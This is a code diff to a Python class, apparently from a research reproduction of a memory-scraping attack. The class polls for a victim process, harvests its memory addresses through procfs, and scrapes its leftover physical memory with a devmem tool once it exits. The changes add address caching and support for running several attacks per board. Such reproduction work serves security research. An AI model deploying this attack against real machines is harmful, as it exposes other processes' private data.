@@ -22,7 +22,11 @@ from __future__ import annotations
 import enum
 from dataclasses import dataclass, field
 
-from repro.attack.addressing import AddressHarvester, HarvestedRange
+from repro.attack.addressing import (
+    AddressHarvester,
+    HarvestedRange,
+    TranslationCache,
+)
 from repro.attack.config import AttackConfig
 from repro.attack.extraction import MemoryScraper, ScrapedDump
 from repro.attack.identify import (
@@ -142,13 +146,17 @@ class MemoryScrapingAttack:
         profiles: ProfileStore,
         config: AttackConfig | None = None,
         database: SignatureDatabase | None = None,
+        translation_cache: TranslationCache | None = None,
     ) -> None:
         self._shell = shell
         self._profiles = profiles
         self._config = config or AttackConfig()
         self._database = database or SignatureDatabase.from_profiles(profiles)
+        self._translation_cache = translation_cache
         self._poller = PidPoller(shell, poll_limit=self._config.poll_limit)
-        self._harvester = AddressHarvester(shell.procfs, caller=shell.user)
+        self._harvester = AddressHarvester(
+            shell.procfs, caller=shell.user, cache=translation_cache
+        )
         self._scraper = MemoryScraper(
             shell.devmem_tool, caller=shell.user, config=self._config
         )
@@ -172,10 +180,16 @@ class MemoryScrapingAttack:
 
     # -- step 1 -------------------------------------------------------------
 
-    def observe_victim(self, pattern: str) -> VictimSighting:
-        """Poll ``ps -ef`` until the victim appears."""
+    def observe_victim(
+        self, pattern: str, exclude_pids: frozenset[int] = frozenset()
+    ) -> VictimSighting:
+        """Poll ``ps -ef`` until the victim appears.
+
+        *exclude_pids* skips processes another attack in flight has
+        already claimed (campaigns run several attacks per board).
+        """
         self._require_phase(AttackPhase.IDLE)
-        self._sighting = self._poller.wait_for_victim(pattern)
+        self._sighting = self._poller.wait_for_victim(pattern, exclude_pids)
         self._ps_during = self._poller.snapshot()
         self.phase = AttackPhase.VICTIM_OBSERVED
         return self._sighting
@@ -199,6 +213,10 @@ class MemoryScrapingAttack:
         self._termination_polls = self._poller.wait_for_termination(
             self._sighting.pid
         )
+        # The pid is gone: its cached translations must never serve a
+        # future process that happens to reuse the number.
+        if self._translation_cache is not None:
+            self._translation_cache.invalidate(self._sighting.pid)
         self._ps_after = self._poller.snapshot()
         self._dump = self._scraper.scrape(self._harvested)
         self.phase = AttackPhase.EXTRACTED
